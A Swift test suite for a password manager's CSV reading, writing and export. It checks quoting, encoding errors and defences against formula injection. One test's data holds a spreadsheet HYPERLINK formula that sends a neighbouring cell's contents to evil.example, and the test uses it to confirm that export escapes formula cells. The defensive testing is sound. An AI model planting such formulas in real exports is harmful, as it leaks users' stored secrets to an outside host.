import Testing
import SesameCrypto
import SesameStore
@testable import SesameInterchange

@Suite struct CSVTests {
    private func read(_ text: String) throws -> (rows: [CSVRow], problems: [CSVProblem]) {
        try CSVReader.read(Array(text.utf8))
    }

    @Test func quotedFieldsHoldCommasQuotesAndLineBreaks() throws {
        let (rows, problems) = try read("a,b,c\r\n\"x, y\",\"say \"\"hi\"\"\",\"one\r\ntwo\nthree\"\r\nlast,,\r\n")
        #expect(problems.isEmpty)
        #expect(rows.map(\.fields) == [["a", "b", "c"], ["x, y", "say \"hi\"", "one\r\ntwo\nthree"], ["last", "", ""]])
        #expect(rows.map(\.line) == [1, 2, 5])
    }

    @Test func byteOrderMarkIsDroppedAndUnicodeKept() throws {
        let (rows, _) = try CSVReader.read([0xEF, 0xBB, 0xBF] + Array("name,note\nÉcole,日本語 🔑\n".utf8))
        #expect(rows.map(\.fields) == [["name", "note"], ["École", "日本語 🔑"]])
    }

    @Test func blankLinesAreSkippedAndLineNumbersCountThem() throws {
        let (rows, _) = try read("h\n\n\nx\r\n\r\ny")
        #expect(rows.map(\.line) == [1, 4, 6])
        #expect(rows.map(\.fields) == [["h"], ["x"], ["y"]])
    }

    @Test func textAfterAClosingQuoteRejectsThatRowOnlyWithItsLine() throws {
        let (rows, problems) = try read("h1,h2\n\"ok\",1\n\"bad\"x,2\nnext,3\n")
        #expect(rows.map(\.fields) == [["h1", "h2"], ["ok", "1"], ["next", "3"]])
        #expect(problems.count == 1)
        #expect(problems.first?.line == 3)
        #expect(problems.first?.description.contains("closing quote") == true)
    }

    @Test func aQuoteNeverClosedIsReportedWhereItOpened() throws {
        let (rows, problems) = try read("h\nfine\n\"open\nmore\nlines")
        #expect(rows.map(\.fields) == [["h"], ["fine"]])
        #expect(problems == [CSVProblem(line: 3, reason: "a quoted field opened on line 3 is never closed")])
    }

    @Test func bytesThatAreNotUTF8AreReportedForTheirRow() throws {
        let (rows, problems) = try CSVReader.read(Array("h\n".utf8) + [0xFF, 0xFE] + Array(",x\ny\n".utf8))
        #expect(rows.map(\.fields) == [["h"], ["y"]])
        #expect(problems.map(\.line) == [2])
        #expect(problems.first?.reason.contains("UTF-8") == true)
    }

    @Test func aLoneQuoteInsideAnUnquotedFieldIsText() throws {
        #expect(try read("5\" disk,x\n").rows.map(\.fields) == [["5\" disk", "x"]])
    }

    @Test func writerQuotesOnlyWhatNeedsItAndReadsBack() throws {
        let fields = ["plain", "a,b", "q\"q", "l1\nl2", " lead", "trail ", "", "\u{FEFF}bom", "cr\rx", "日本"]
        let written = CSVWriter.record(fields)
        #expect(written.hasPrefix("plain,\"a,b\",\"q\"\"q\",\"l1\nl2\",\" lead\",\"trail \",,"))
        #expect(written.hasSuffix(",日本\r\n"))
        let again = try read(written + written)
        #expect(again.problems.isEmpty)
        #expect(again.rows.map(\.fields) == [fields, fields])
    }

    /// Found by FuzzCSV: a quote followed by a combining mark is one Swift `Character`, and was not doubled.
    @Test func aQuoteBeforeACombiningMarkIsStillDoubled() throws {
        let fields = ["Ua\"\u{07A7}x", "\"\u{0301}"]
        let written = CSVWriter.record(fields)
        #expect(written == "\"Ua\"\"\u{07A7}x\",\"\"\"\u{0301}\"\r\n")
        let again = try read(written)
        #expect(again.problems.isEmpty)
        #expect(again.rows.map(\.fields) == [fields])
    }

    /// Issue 22, finding 11: the export wrote cells starting with `=`, `+`, `-`, `@` verbatim, so a spreadsheet
    /// opening it ran them as formulas. They are written after a `'` (tab and carriage return too, as OWASP
    /// advises), and Sesame's import of its own export removes it, so every value comes back as it was.
    @Test func formulaCellsAreWrittenAsTextAndReadBackUnchanged() throws {
        let values = ["=HYPERLINK(\"https://evil.example/?\"&D2,\"open\")", "+1+1", "-2+3", "@SUM(1)", "\tx", "\rx",
                      "'=quoted", "''+twice", "'plain", "a=b", "ok", "-"]
        let items = values.enumerated().map { index, value in
            Item(title: "t\(index)", username: value, password: value, urls: [ItemURL("https://s\(index).example")],
                 notes: value)
        } + [Item(title: "=1+1", password: "x")]
        let written = CSVExport.write(items)
        let rows = try CSVReader.read(written).rows.dropFirst()
        for (row, item) in zip(rows, items) {
            let cells = [row.fields[0], row.fields[2], row.fields[3], row.fields[4]]
            let originals = [item.title, item.username, item.password, item.notes]
            for (cell, original) in zip(cells, originals) {
                #expect(cell == (SpreadsheetCell.needsEscape(original) ? "'" + original : original))
                #expect(!["=", "+", "-", "@", "\t", "\r"].contains(cell.first.map(String.init) ?? ""))
            }
        }
        #expect(CSVExport.escapedCellCount(items) == 3 * 9 + 1)
        let (format, batch) = try ImportReader.read(written, as: nil) { _ in SecureBytes(utf8: "") }
        #expect(format == .safari)
        #expect(batch.rejected.isEmpty)
        #expect(batch.records.map(\.item.title) == items.map(\.title))
        #expect(batch.records.map(\.item.username) == items.map(\.username))
        #expect(batch.records.map(\.item.password) == items.map(\.password))
        #expect(batch.records.map(\.item.notes) == items.map(\.notes))
    }
}
